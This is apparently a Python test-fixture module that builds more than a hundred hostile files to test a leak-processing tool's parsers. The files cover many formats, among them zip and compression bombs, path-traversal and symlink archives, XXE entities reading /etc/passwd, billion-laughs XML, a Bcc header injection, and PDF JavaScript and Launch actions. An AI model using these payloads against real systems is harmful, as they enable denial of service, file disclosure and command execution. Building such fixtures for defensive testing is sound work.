"""More than a hundred files made to harm whoever reads a leak. Each is made here, from nothing."""

import base64
import bz2
import gzip
import io
import lzma
import random
import struct
import tarfile
import zipfile
import zlib

import zstandard
from tests.sources.compound import compound, mail_storage, text

MIB = 1 << 20
GOOD = b"From: a@example.org\r\nTo: b@example.org\r\nSubject: s\r\nDate: Tue, 5 Nov 2024 10:00:00 +0000\r\n\r\nbody\r\n"
HEAD = GOOD[: -len(b"\r\n\r\nbody\r\n")]
ZEROS = bytes(MIB)


# ---- archives


def zipped(*members, method=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in members:
            archive.writestr(name if isinstance(name, zipfile.ZipInfo) else zipfile.ZipInfo(name), data, method)
    return out.getvalue()


def link_in_zip():
    info = zipfile.ZipInfo("passwd.eml")
    info.create_system, info.external_attr = 3, 0o120777 << 16
    return zipped((info, b"/etc/passwd"), ("a.eml", GOOD))


def patched(data, old, new, count=-1):
    assert old in data
    return data.replace(old, new, count)


def overlapping(copies=500, size=2 * MIB):
    """One packed file that many entries of the directory point to."""
    packed = zlib.compress(bytes(size), 9)[2:-4]
    crc = zlib.crc32(bytes(size))
    local = b"PK\3\4" + struct.pack("<5H3L2H", 20, 0, 8, 0, 33, crc, len(packed), size, 1, 0) + b"a" + packed
    entries = b"".join(
        b"PK\1\2"
        + struct.pack("<6H3L5H2L", 20, 20, 0, 8, 0, 33, crc, len(packed), size, 4, 0, 0, 0, 0, 0, 0)
        + b"%04d" % n
        for n in range(copies)
    )
    return local + entries + b"PK\5\6" + struct.pack("<4H2LH", 0, 0, copies, copies, len(entries), len(local), 0)


def nested_zip(depth, inner=GOOD, name="a.eml"):
    for _ in range(depth):
        inner, name = zipped((name, inner)), "a.zip"
    return inner


def bomb_tree(depth=3, width=10, size=64 * MIB):
    inner, name = zipped(("zeros", bytes(size))), "z.zip"
    for _ in range(depth):
        inner = zipped(*((f"{n}{name}", inner) for n in range(width)))
    return inner


def tarred(*members):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for name, data, changes in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            for field, value in changes.items():
                setattr(info, field, value)
            archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


def tar_header(**fields):
    info = tarfile.TarInfo("a.eml")
    for field, value in fields.items():
        setattr(info, field, value)
    return info.tobuf(tarfile.GNU_FORMAT)


def packed_often(depth):
    data = GOOD
    for _ in range(depth):
        data = gzip.compress(data, mtime=0)
    return data


ARCHIVES = {
    "zip: 300 MB of zeros": lambda: zipped(("zeros.txt", bytes(300 * MIB))),
    "zip: bombs in zips in zips": bomb_tree,
    "zip: one packed file in 500 entries": overlapping,
    "zip: 60 deep": lambda: nested_zip(60),
    "zip: way out of the folder": lambda: zipped(("../../../../tmp/tocsin-canary.eml", GOOD)),
    "zip: absolute path": lambda: zipped(("/tmp/tocsin-canary.eml", GOOD)),
    "zip: path of Windows": lambda: zipped(("C:\\..\\canary.eml", GOOD)),
    "zip: symbolic link": link_in_zip,
    "zip: name that is empty": lambda: zipped(("", GOOD), ("b.eml", GOOD)),
    "zip: name with a NUL": lambda: patched(zipped(("aXb.eml", GOOD)), b"aXb", b"a\0b"),
    "zip: name that turns the writing": lambda: zipped(("a\u202egpj.eml", GOOD)),
    "zip: two of one name": lambda: zipped(("a.eml", GOOD), ("a.eml", GOOD)),
    "zip: encrypted": lambda: patched(
        patched(zipped(("a.eml", GOOD)), b"PK\3\4\x14\0\0\0", b"PK\3\4\x14\0\1\0"),
        b"PK\1\2\x14\3\x14\0\0\0", b"PK\1\2\x14\3\x14\0\1\0"),
    "zip: unknown method": lambda: patched(zipped(("a.eml", GOOD)), b"\0\0\x08\0", b"\0\0\x63\0"),
    "zip: wrong checksum": lambda: patched(
        zipped(("a.eml", GOOD)), struct.pack("<L", zlib.crc32(GOOD)), b"\1\2\3\4"),
    "zip: cut": lambda: zipped(("a.eml", GOOD * 50))[:-30],
    "zip: cut in the middle": lambda: zipped(("a.eml", random.Random(1).randbytes(5000)))[:2500],
    "zip: directory elsewhere": lambda: zipped(("a.eml", GOOD))[:-6] + b"\xff\xff\xff\x7f\0\0",
    "zip: empty": lambda: b"PK\5\6" + bytes(18),
    "zip: says it is small": lambda: patched(
        zipped(("a.txt", bytes(100_000))), struct.pack("<L", 100_000), struct.pack("<L", 10)),
    "zip: directory of 300,000 entries": lambda: _many_entries(300_000),
    "zip: noise after the magic": lambda: b"PK\3\4" + random.Random(2).randbytes(4000),
    "tar: way out of the folder": lambda: tarred(("../../../tmp/tocsin-canary.eml", GOOD, {})),
    "tar: symbolic link": lambda: tarred(
        ("a.eml", b"", {"type": tarfile.SYMTYPE, "linkname": "/etc/passwd"}), ("b.eml", GOOD, {})),
    "tar: hard link": lambda: tarred(("a.eml", b"", {"type": tarfile.LNKTYPE, "linkname": "/etc/passwd"})),
    "tar: device": lambda: tarred(("a.eml", b"", {"type": tarfile.CHRTYPE, "devmajor": 1, "devminor": 5})),
    "tar: terabyte that is not there": lambda: tar_header(size=1 << 40) + GOOD.ljust(10_240, b"\0"),
    "tar: sparse terabyte": lambda: _sparse_tar(1 << 40),
    "tar: cut": lambda: tarred(("a.eml", GOOD * 100, {}))[:3000],
    "tar: wrong checksum": lambda: patched(tarred(("a.eml", GOOD, {})), b"a.eml", b"b.eml", 1),
    "tar: endless extended header": lambda: tar_header(type=tarfile.XHDTYPE, size=1 << 35) + bytes(1024),
    "gzip: 300 MB of zeros": lambda: gzip.compress(bytes(300 * MIB), 9, mtime=0),
    "gzip: 30 deep": lambda: packed_often(30),
    "gzip: cut": lambda: gzip.compress(GOOD * 1000, mtime=0)[:60],
    "gzip: wrong checksum": lambda: gzip.compress(GOOD, mtime=0)[:-8] + b"12345678",
    "gzip: noise": lambda: b"\x1f\x8b\x08" + random.Random(3).randbytes(1000),
    "bzip2: 300 MB of zeros": lambda: bz2.compress(bytes(300 * MIB)),
    "xz: 300 MB of zeros": lambda: lzma.compress(bytes(300 * MIB), preset=0),
    "zstd: 300 MB of zeros": lambda: zstandard.compress(bytes(300 * MIB)),
    "zstd: window of 2 GiB": lambda: b"\x28\xb5\x2f\xfd\x00\xa8" + random.Random(4).randbytes(200),
}  # fmt: skip


def _many_entries(count):
    entry = b"PK\1\2" + struct.pack("<6H3L5H2L", 20, 20, 0, 0, 0, 33, 0, 0, 0, 20, 0, 0, 0, 0, 0, 0)
    entries = b"".join(entry + b"%020d" % n for n in range(count))
    start = b"PK\3\4" + struct.pack("<5H3L2H", 20, 0, 0, 0, 33, 0, 0, 0, 1, 0) + b"a"
    far = b"PK\6\6" + struct.pack("<Q2H2L4Q", 44, 45, 45, 0, 0, count, count, len(entries), len(start))
    far += b"PK\6\7" + struct.pack("<LQL", 0, len(start) + len(entries), 1)
    return start + entries + far + b"PK\5\6" + struct.pack("<4H2LH", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)


def _sparse_tar(size):
    info = tarfile.TarInfo("a.txt")
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as archive:
        info.pax_headers = {
            "GNU.sparse.map": f"0,1,{size - 1},1", "GNU.sparse.size": str(size), "GNU.sparse.numblocks": "2",
        }  # fmt: skip
        info.size = 2
        archive.addfile(info, io.BytesIO(b"ab"))
    return out.getvalue()


# ---- mail


def nested_mail(depth):
    mail = GOOD
    for _ in range(depth):
        mail = HEAD + b"\r\nMIME-Version: 1.0\r\nContent-Type: message/rfc822\r\n\r\n" + mail
    return mail


def nested_parts(depth):
    start = b"".join(b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (n, n) for n in range(depth))
    return HEAD + b"\r\nMIME-Version: 1.0\r\n" + start + b"Content-Type: text/plain\r\n\r\nend\r\n"


def multipart(*inside, boundary=b"b", closed=True):
    body = b"".join(b"--" + boundary + b"\r\n" + part + b"\r\n" for part in inside)
    start = HEAD + b'\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="' + boundary + b'"\r\n\r\n'
    return start + body + (b"--" + boundary + b"--\r\n" if closed else b"")


def attached(data, name=b"a.bin", encoding=b"base64", kind=b"application/octet-stream"):
    fields = (
        b'Content-Type: %s\r\nContent-Disposition: attachment; filename="%s"\r\nContent-Transfer-Encoding: %s\r\n\r\n'
    )
    return fields % (kind, name, encoding) + data


FROM = b"From a@example.org Tue Nov  5 10:00:00 2024\n"
LF = GOOD.replace(b"\r\n", b"\n")

MAIL = {
    "mail: 500 deep": lambda: nested_mail(500),
    "mail: 5,000 deep": lambda: nested_mail(5_000),
    "mail: parts 500 deep": lambda: nested_parts(500),
    "mail: parts 20,000 deep": lambda: nested_parts(20_000),
    "mail: 200,000 parts": lambda: multipart(*[b"\r\nx"] * 200_000),
    "mail: 100,000 fields": lambda: b"".join(b"X-F-%d: x\r\n" % n for n in range(100_000)) + GOOD,
    "mail: field of 40 MB": lambda: b"X-Long: " + b"a" * 40_000_000 + b"\r\n" + GOOD,
    "mail: folded field of 400,000 lines": lambda: b"Subject: s\r\n" + b" x\r\n" * 400_000 + GOOD,
    "mail: parameters without end": lambda: (
        HEAD + b"\r\nContent-Type: multipart/mixed; " + b'a="b;' * 50_000 + b"\r\n\r\n"),
    "mail: 20,000 pieces of a name": lambda: multipart(
        b"Content-Disposition: attachment; " + b"; ".join(b"filename*%d=a" % n for n in range(20_000)) + b"\r\n\r\nx"),
    "mail: name of many encodings": lambda: multipart(attached(b"eA==", b"=?utf-8?q?a?= " * 2_000)),
    "mail: name of no encoding": lambda: multipart(attached(b"eA==", b"=?rot13?b?!!!?=")),
    "mail: name that leads out": lambda: multipart(attached(b"eA==", b"../../../tmp/tocsin-canary")),
    "mail: boundary that is empty": lambda: multipart(b"\r\nx", boundary=b""),
    "mail: boundary of 60,000 signs": lambda: multipart(b"\r\nx", boundary=b"b" * 60_000),
    "mail: boundary of signs of a pattern": lambda: multipart(b"\r\nx", boundary=b"(a+)+$|[[{" * 50),
    "mail: boundary within itself": lambda: multipart(nested_parts(0) + b"\r\n--b\r\n", closed=False),
    "mail: never closed": lambda: multipart(attached(b"eA=="), closed=False),
    "mail: lines that nearly are boundaries": lambda: multipart(b"\r\n" + b"--bb\r\n-- b\r\n--b-\r\n" * 100_000),
    "mail: base64 of garbage": lambda: multipart(attached(bytes(range(256)) * 200)),
    "mail: base64 of one sign": lambda: multipart(attached(b"A")),
    "mail: base64 cut": lambda: multipart(attached(base64.b64encode(zipped(("a", GOOD)))[:-7], b"a.zip")),
    "mail: quoted-printable broken": lambda: multipart(attached(b"=ZZ=\r\n==\r\n=", encoding=b"quoted-printable")),
    "mail: unknown transfer encoding": lambda: multipart(attached(b"\xff\xfe\0x", encoding=b"x-rot13")),
    "mail: unknown character set": lambda: HEAD + b"\r\nContent-Type: text/plain; charset=x-none\r\n\r\n\xff",
    "mail: character set that unpacks": lambda: HEAD + b"\r\nContent-Type: text/plain; charset=zlib\r\n\r\nx",
    "mail: character set of slow names": lambda: (
        HEAD + b"\r\nContent-Type: text/plain; charset=punycode\r\n\r\n" + b"a" * 200_000 + b"-" + b"9" * 100_000),
    "mail: NULs everywhere": lambda: GOOD.replace(b"\r\n", b"\0\r\n"),
    "mail: carriage returns alone": lambda: GOOD.replace(b"\r\n", b"\r"),
    "mail: header alone": lambda: HEAD,
    "mail: UTF-16": lambda: b"\xff\xfe" + GOOD.decode().encode("utf-16-le"),
    "mail: eight-bit header": lambda: b"From: \xff\xfe\xfd <a@example.org>\r\nSubject: \x80\r\n" + GOOD,
    "mail: bomb attached": lambda: multipart(
        attached(base64.encodebytes(gzip.compress(bytes(100 * MIB), 9, mtime=0)), b"a.gz")),
    "mail: lies elsewhere": lambda: HEAD + b"\r\nContent-Type: message/external-body; access-type=URL; URL=\"file:///etc/passwd\"\r\n\r\n",
    "mbox: a million lines From": lambda: FROM + LF + b"\nFrom \n" * 1_000_000,
    "mbox: 20,000 empty mails": lambda: FROM + LF + (b"\n" + FROM + b"X: y\n") * 20_000,
    "mbox: a mail of 70 MB between two": lambda: (
        FROM + LF + b"\n" + FROM + LF + b"x" * 70_000_000 + b"\n\n" + FROM + LF),
    "mbox: length that lies": lambda: FROM + b"Content-Length: 999999999999\n" + LF + b"\n" + FROM + LF,
    "mbox: length into the next mail": lambda: FROM + b"Content-Length: 60\n" + LF + b"\n" + FROM + LF,
    "mbox: length below nothing": lambda: FROM + b"Content-Length: -5\n" + LF + b"\n" + FROM + LF,
    "mbox: cut in a line From": lambda: FROM + LF + b"\nFrom a@exa",
    "mbox: one line of 30 MB": lambda: FROM + LF + b"From " * 6_000_000,
}  # fmt: skip


# ---- compound files: MSG and the older Office programs


def looped_fat():
    data = compound({"__properties_version1.0": bytes(5000)})
    count = struct.unpack("<128L", data[-512:]).index(0xFFFFFFFD)
    return data[:-512] + struct.pack(f"<{count}L", *range(count)) + data[-512 + 4 * count :]  # each follows itself


def deep_msg(depth):
    inner = mail_storage(top=False)
    for _ in range(depth):
        inner = mail_storage({"__attach_version1.0_#00000000": {"__substg1.0_3701000D": inner}}, top=False)
    return compound(mail_storage({"__attach_version1.0_#00000000": {"__substg1.0_3701000D": inner}}))


OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def stream_of_gigabytes():
    """The text of a mail that says it has 2 GiB."""
    data = bytearray(compound(mail_storage()))
    at = data.index("__substg1.0_1000001F".encode("utf-16-le")) + 120  # its size [MS-CFB] 2.6.1
    data[at : at + 4] = b"\xff\xff\xff\x7f"
    return bytes(data)


COMPOUND = {
    "msg: noise after the magic": lambda: OLE_MAGIC + random.Random(5).randbytes(4000),
    "msg: magic alone": lambda: OLE_MAGIC,
    "msg: cut": lambda: compound(mail_storage())[:1200],
    "msg: sectors that follow themselves": looped_fat,
    "msg: larger than its file": stream_of_gigabytes,
    "msg: 40 deep": lambda: deep_msg(40),
    "msg: sectors of 2 to the 60th": lambda: patched(compound(mail_storage()), b"\xfe\xff\x09\0", b"\xfe\xff\x3c\0", 1),
    "msg: packed text that begins wrongly": lambda: compound(
        mail_storage({"__substg1.0_10090102": bytes(40)})),
    "msg: packed text of 4 GB": lambda: compound(
        mail_storage({"__substg1.0_10090102": struct.pack("<4L", 40, 0xFFFFFFFF, 0x75465A4C, 0) + bytes(40)})),
    "msg: header that injects": lambda: compound(
        mail_storage({"__substg1.0_0037001F": text("a\r\nBcc: evil@example.org\r\n\r\nbody")})),
    "msg: year 60000": lambda: compound(mail_storage(ticks=2**63 - 1)),
    "pst: noise after the magic": lambda: b"!BDN" + random.Random(6).randbytes(8000),
    "pst: magic alone": lambda: b"!BDN",
    "pst: zeros": lambda: b"!BDN" + bytes(100_000),
}  # fmt: skip


# ---- PDF


def pdf(*objects, trailer=b"/Root 1 0 R", tail=b""):
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer <</Size %d %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, start)
    return bytes(out) + tail


def stream(data, extra=b""):
    return b"<</Length %d %s>>\nstream\n" % (len(data), extra) + data + b"\nendstream"


CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"
PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = (
    b"<</Type/Page/Parent 2 0 R/Contents 4 0 R/MediaBox[0 0 9 9]/Resources<</Font<</F 5 0 R>>/XObject<</X 6 0 R>>>>>>"
)
FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
SAYS = stream(b"BT /F 9 Tf (hello) Tj ET")


def paged(contents, *more, catalog=CATALOG, page=PAGE):
    return pdf(catalog, PAGES, page, contents, FONT, *more)


def flate(data, times=1):
    for _ in range(times):
        data = zlib.compress(data, 9)
    return stream(data, b"/Filter[" + b"/FlateDecode" * times + b"]")


def pdf_in_pdf(depth):
    data = paged(SAYS)
    for _ in range(depth):
        names = b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(a.pdf) 6 0 R]>>>>>>"
        data = paged(SAYS, b"<</Type/Filespec/F(a.pdf)/EF<</F 7 0 R>>>>", stream(data), catalog=names)
    return data


LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 20) for n in range(9))
    + b"]>"
)

PDF = {
    "pdf: pages that hold themselves": lambda: pdf(CATALOG, b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 9>>"),
    "pdf: pages in a circle": lambda: pdf(
        CATALOG, b"<</Type/Pages/Kids[3 0 R]/Count 1>>", b"<</Type/Pages/Parent 2 0 R/Kids[2 0 R]/Count 1>>"),
    "pdf: table that comes before itself": lambda: paged(SAYS).replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev 9"),
    "pdf: table in a circle": lambda: _prev_circle(),
    "pdf: reference to itself": lambda: pdf(b"1 0 R"),
    "pdf: arrays 100,000 deep": lambda: pdf(CATALOG, b"[" * 100_000 + b"]" * 100_000),
    "pdf: dictionaries 50,000 deep": lambda: pdf(CATALOG, b"<</A" * 50_000 + b">>" * 50_000),
    "pdf: content of 300 MB": lambda: paged(flate(bytes(300 * MIB))),
    "pdf: content packed five times": lambda: paged(flate(b"q " * 8 * MIB, 5)),
    "pdf: 20 million signs shown": lambda: paged(flate(b"BT /F 9 Tf " + b"(aaaaaaaaaa) Tj " * 2_000_000 + b"ET")),
    "pdf: drawing that holds itself": lambda: paged(
        stream(b"/X Do"), stream(b"/X Do", b"/Type/XObject/Subtype/Form/Resources<</XObject<</X 6 0 R>>>>")),
    "pdf: a billion pages": lambda: pdf(CATALOG, b"<</Type/Pages/Kids[]/Count 1000000000>>"),
    "pdf: length of 2 to the 60th": lambda: paged(b"<</Length 1152921504606846976>>\nstream\nx\nendstream"),
    "pdf: length that is itself": lambda: paged(b"<</Length 4 0 R>>\nstream\nx\nendstream"),
    "pdf: unknown filter": lambda: paged(stream(b"x", b"/Filter/Nothing")),
    "pdf: picture within the line, without end": lambda: paged(stream(b"BI /W 9 /H 9 ID " + bytes(50_000))),
    "pdf: map of signs over all numbers": lambda: paged(
        SAYS, stream(b"1 beginbfrange <0000> <FFFFFFFF> <0000> endbfrange"),
        page=PAGE).replace(FONT, FONT.replace(b">>", b"/ToUnicode 6 0 R>>")),
    "pdf: script": lambda: paged(
        SAYS, b"<</S/JavaScript/JS(app.launchURL\\('file:///tmp/tocsin-canary'\\))>>",
        catalog=b"<</Type/Catalog/Pages 2 0 R/OpenAction 6 0 R>>"),
    "pdf: starts a program": lambda: paged(
        SAYS, b"<</S/Launch/F(/bin/touch)/Win<</F(cmd)/P(/tmp/tocsin-canary)>>>>",
        catalog=b"<</Type/Catalog/Pages 2 0 R/OpenAction 6 0 R>>"),
    "pdf: 12 deep": lambda: pdf_in_pdf(12),
    "pdf: bomb within": lambda: paged(
        SAYS, b"<</Type/Filespec/F(a.gz)/EF<</F 7 0 R>>>>", flate(bytes(300 * MIB)),
        catalog=b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(a.gz) 6 0 R]>>>>>>"),
    "pdf: tree of names in a circle": lambda: paged(
        SAYS, b"<</Kids[6 0 R]>>", catalog=b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles 6 0 R>>>>"),
    "pdf: XMP that multiplies": lambda: paged(
        SAYS, stream(LAUGHS + b"<x>&j;</x>", b"/Type/Metadata/Subtype/XML"),
        catalog=b"<</Type/Catalog/Pages 2 0 R/Metadata 6 0 R>>"),
    "pdf: encrypted by nobody": lambda: paged(SAYS).replace(
        b"/Root 1 0 R", b"/Root 1 0 R/Encrypt<</Filter/Standard/V 9/R 9/O()/U()/P 0>>/ID[()()]"),
    "pdf: cut": lambda: paged(SAYS)[:200],
    "pdf: noise after the magic": lambda: b"%PDF-1.7\n" + random.Random(7).randbytes(20_000),
    "pdf: magic alone": lambda: b"%PDF-",
    "pdf: a thousand ends": lambda: paged(SAYS) + b"startxref\n0\n%%EOF\n" * 1000,
    "pdf: object streams in a circle": lambda: pdf(
        CATALOG, PAGES, stream(b"3 0 ", b"/Type/ObjStm/N 1/First 4/Extends 3 0 R")),
}  # fmt: skip


def _prev_circle():
    data = paged(SAYS)
    start = data.rindex(b"xref\n0 ")
    place = data.index(b"xref\n0 ")
    assert start >= place
    return data.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % place)


# ---- Office and OpenDocument

W = b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
END = b"</w:body></w:document>"
TYPES = ("[Content_Types].xml", b"<Types/>")


def docx(document, *more):
    return zipped(TYPES, ("word/document.xml", document), *more)


def docx_in_docx(depth):
    data = docx(W + b"<w:p><w:r><w:t>deep</w:t></w:r></w:p>" + END)
    for _ in range(depth):
        data = docx(W + END, ("word/embeddings/a.docx", data))
    return data


SHEET = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
ODT = ("mimetype", b"application/vnd.oasis.opendocument.text")
OFFICE = {
    "docx: a billion laughs": lambda: docx(LAUGHS + W + b"<w:p><w:r><w:t>&j;</w:t></w:r></w:p>" + END),
    "docx: laughs in UTF-16": lambda: docx(
        (LAUGHS + b"<x>&j;</x>").decode().replace("1.0\"", "1.0\" encoding=\"utf-16\"").encode("utf-16")),
    "docx: entity of a file": lambda: docx(
        b'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + W + b"<w:p><w:r><w:t>&x;</w:t></w:r></w:p>" + END),
    "docx: laughs in the properties": lambda: docx(W + END, ("docProps/core.xml", LAUGHS + b"<x>&j;</x>")),
    "docx: text of 300 MB": lambda: docx(W + b"<w:p><w:t>" + b"a" * 300 * MIB),
    "docx: a million elements deep": lambda: docx(W + b"<w:p>" * 1_000_000),
    "docx: elements that never close": lambda: docx(W + b"<w:p><w:t>" * 100_000),
    "docx: no XML": lambda: docx(random.Random(8).randbytes(2000)),
    "docx: nothing in it": lambda: zipped(TYPES),
    "docx: macros": lambda: docx(W + END, ("word/vbaProject.bin", OLE_MAGIC + bytes(5000))),
    "docx: a program in it": lambda: docx(W + END, ("word/embeddings/a.exe", b"MZ" + bytes(500))),
    "docx: template far away": lambda: docx(
        W + END, ("word/_rels/settings.xml.rels",
                  b'<Relationships><Relationship TargetMode="External" Target="http://192.0.2.1/t.dotm"/></Relationships>')),
    "docx: 12 deep": lambda: docx_in_docx(12),
    "docx: wrong checksum": lambda: patched(
        zipped(TYPES, ("word/document.xml", W + END), method=zipfile.ZIP_STORED), b"<w:body>", b"<w:bodY>", 1),
    "docx: cut": lambda: docx(W + END * 2000)[:150],
    "docx: 50,000 pictures": lambda: docx(W + END, *((f"word/media/{n}.png", b"x") for n in range(50_000))),
    "xlsx: string that is not there": lambda: zipped(
        TYPES, ("xl/workbook.xml", b"<w/>"),
        ("xl/worksheets/sheet1.xml", SHEET + b'<row><c t="s"><v>99999999999999</v></c></row></sheetData></worksheet>')),
    "xlsx: a million rows": lambda: zipped(
        TYPES, ("xl/workbook.xml", b"<w/>"),
        ("xl/worksheets/sheet1.xml", SHEET + b"<row><c><v>1</v></c></row>" * 1_000_000 + b"</sheetData></worksheet>")),
    "odt: document type": lambda: zipped(ODT, ("content.xml", LAUGHS + b"<x>&j;</x>"), method=zipfile.ZIP_STORED),
    "odt: kind of no kind": lambda: zipped(
        ("mimetype", b"application/vnd.oasis.opendocument.text" + b"x" * 5000), ("content.xml", b"<x/>"),
        method=zipfile.ZIP_STORED),
}  # fmt: skip


# ---- pictures, pages, texts


def png(width, height, *chunks):
    def chunk(kind, data):
        return struct.pack(">L", len(data)) + kind + data + struct.pack(">L", zlib.crc32(kind + data))

    head = struct.pack(">2L5B", width, height, 8, 2, 0, 0, 0)
    body = b"".join(chunk(kind, data) for kind, data in chunks)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + body + chunk(b"IDAT", zlib.compress(b"x")) + chunk(b"IEND", b"")
    )


def tiff_circle():
    return b"II*\0" + struct.pack("<L", 8) + struct.pack("<HHHLLL", 1, 0x8769, 4, 1, 8, 8)


OTHER = {
    "png: 60,000 by 60,000": lambda: png(60_000, 60_000),
    "png: text of 100 MB": lambda: png(
        9, 9, (b"zTXt", b"Comment\0\0" + zlib.compress(bytes(100 * MIB), 9))),
    "png: chunk of 2 GiB": lambda: png(9, 9)[:33] + b"\x7f\xff\xff\xffIDATx",
    "png: magic alone": lambda: b"\x89PNG\r\n\x1a\n",
    "jpeg: noise": lambda: b"\xff\xd8\xff\xe1" + random.Random(9).randbytes(4000),
    "tiff: directory in a circle": tiff_circle,
    "gif: cut": lambda: b"GIF89a" + b"\xff" * 20,
    "bmp: size below nothing": lambda: b"BM" + struct.pack("<LLLLll", 100, 0, 54, 40, -1, -2**31) + bytes(40),
    "html: a million brackets": lambda: b"<html>" + b"<" * 1_000_000,
    "html: comments that never end": lambda: b"<html>" + b"<!--" * 30_000,
    "html: 300,000 elements deep": lambda: b"<html>" + b"<div>" * 300_000 + b"end",
    "html: script": lambda: b"<html><script>fetch('http://192.0.2.1/')</script><p>seen</p></html>",
    "html: address of a file": lambda: b'<html><img src="file:///etc/passwd"><p>seen</p></html>',
    "text: broken UTF-8": lambda: "Zürich".encode()[:2] + b"\xff\xfe\xfd text\n",
    "text: UTF-16 cut": lambda: b"\xff\xfe" + "abc".encode("utf-16-le")[:-1],
    "text: one line of 30 MB": lambda: b"a" * 30_000_000,
    "text: signs that control a terminal": lambda: b"\x1b]0;title\x07\x1b[2J text",
    "rtf: 400,000 groups deep": lambda: b"{\\rtf1" + b"{" * 400_000,
    "rtf: a million words": lambda: b"{\\rtf1" + b"\\b" * 1_000_000,
    "rtf: bytes that are not there": lambda: b"{\\rtf1 text \\bin999999999 rest}",
    "rtf: ends only": lambda: b"{\\rtf1" + b"}" * 1000 + b" text",
    "rtf: half a sign": lambda: b"{\\rtf1\\ansicpg99999 text \\u55357? \\'fg \\",
    "docx: hidden files": lambda: docx(b"<w/>", ("a/inbox.mbox", b"From a@b Tue Nov  5 10:00:00 2024\n" + GOOD)),
    "tnef: cut": lambda: b"\x78\x9f\x3e\x22\0\0" + struct.pack("<BLL", 1, 0x0006800F, 1 << 31) + b"data",
    "tnef: packed text that says 4 GB": lambda: b"\x78\x9f\x3e\x22\0\0" + struct.pack("<BLL", 1, 0x00069003, 20)
    + struct.pack("<LL4sL", 0xFFFFFFFF, 0xFFFFFFFF, b"LZFu", 0) + bytes(6),
    "nothing at all": lambda: b"",
    "one NUL": lambda: b"\0",
    "a program": lambda: b"\x7fELF" + bytes(200),
    "7z": lambda: b"7z\xbc\xaf\x27\x1c" + bytes(200),
    "noise": lambda: random.Random(10).randbytes(100_000),
}  # fmt: skip

HOSTILE = ARCHIVES | MAIL | COMPOUND | PDF | OFFICE | OTHER
